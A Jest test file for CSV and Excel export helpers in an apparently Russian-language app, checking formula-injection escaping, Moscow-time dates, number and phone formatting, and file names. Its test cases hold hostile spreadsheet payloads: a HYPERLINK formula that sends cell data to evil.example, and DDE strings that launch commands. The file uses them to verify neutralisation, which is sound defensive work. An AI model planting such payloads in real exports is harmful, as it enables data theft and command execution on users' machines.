import { describe, expect, it } from '@jest/globals';

import { csvCell, csvLine, exportFileName, neutralised, workbookCell } from './export-cells.js';
import type { CellKind, ExportColumn } from './export-columns.js';

const column = (kind: CellKind, values?: Record<string, string>): ExportColumn => ({
  header: 'Колонка',
  sql: 'record.value',
  kind,
  values,
});

describe('neutralised (CSV and formula injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1;"Нажмите")'],
    ["=cmd|' /C calc'!A0"],
    ['+7 (495) 230-27-72'],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('puts an apostrophe before %j', (text) => {
    expect(neutralised(text)).toBe(`'${text}`);
  });

  it('leaves a text that starts with anything else as it is', () => {
    expect(neutralised('ООО «Ромашка» = склад')).toBe('ООО «Ромашка» = склад');
    expect(neutralised(' =1+1')).toBe(' =1+1');
  });
});

describe('csvCell', () => {
  it('exports a formula typed into a text field inert, and quotes it when it holds «;»', () => {
    const cell = csvCell(column('text'), '=HYPERLINK("http://evil.example";"Сайт")');

    expect(cell).toBe('\'=HYPERLINK("http://evil.example";"Сайт")');
    expect(csvLine([cell, 'дальше'])).toBe('"\'=HYPERLINK(""http://evil.example"";""Сайт"")";дальше\r\n');
  });

  it('neutralises a value that is not what its column promises', () => {
    expect(csvCell(column('money'), '=1+1')).toBe("'=1+1");
    expect(csvCell(column('date'), '=1+1')).toBe("'=1+1");
    expect(csvCell(column('dateTime'), '@now')).toBe("'@now");
  });

  it('keeps a negative amount a number, with a decimal comma and no grouping', () => {
    expect(csvCell(column('money'), '-1234567.89')).toBe('-1234567,89');
    expect(csvCell(column('area'), '2000.50')).toBe('2000,50');
  });

  it('writes dates and moments as Russian Excel reads them, in Moscow time', () => {
    expect(csvCell(column('date'), '2026-12-04')).toBe('04.12.2026');
    expect(csvCell(column('dateTime'), new Date('2026-12-04T16:07:00Z'))).toBe('04.12.2026, 19:07');
  });

  it('names an enumeration value in Russian and leaves an empty value empty', () => {
    expect(csvCell(column('text', { new: 'Новый' }), 'new')).toBe('Новый');
    expect(csvCell(column('text'), null)).toBe('');
    expect(csvCell(column('money'), '')).toBe('');
  });
});

describe('workbookCell', () => {
  it('keeps a formula-like text a plain string (never an exceljs formula object)', () => {
    expect(workbookCell(column('text'), "=cmd|' /C calc'!A0")).toBe("=cmd|' /C calc'!A0");
  });

  it('gives a calendar date as a Date at UTC midnight and a moment in Moscow wall time', () => {
    expect(workbookCell(column('date'), '2026-12-04')).toEqual(new Date(Date.UTC(2026, 11, 4)));
    expect(workbookCell(column('dateTime'), new Date('2026-12-04T16:07:00Z'))).toEqual(
      new Date(Date.UTC(2026, 11, 4, 19, 7)),
    );
  });

  it('gives amounts and areas as numbers (PostgreSQL numeric comes as a string)', () => {
    expect(workbookCell(column('money'), '1234567.89')).toBe(1234567.89);
    expect(workbookCell(column('area'), '-12.5')).toBe(-12.5);
    expect(workbookCell(column('number'), 'не число')).toBe('не число');
  });

  it('formats a Russian phone and leaves an empty value empty', () => {
    expect(workbookCell(column('phone'), '+74952302772')).toBe('+7 (495) 230-27-72');
    expect(workbookCell(column('money'), null)).toBeNull();
  });
});

describe('exportFileName', () => {
  it('names the file by the list and the Moscow day', () => {
    // 21:30 UTC on 4 December is already 5 December in Moscow.
    expect(exportFileName('Лиды', 'xlsx', new Date('2026-12-04T21:30:00Z'))).toBe('Лиды 05.12.2026.xlsx');
  });
});
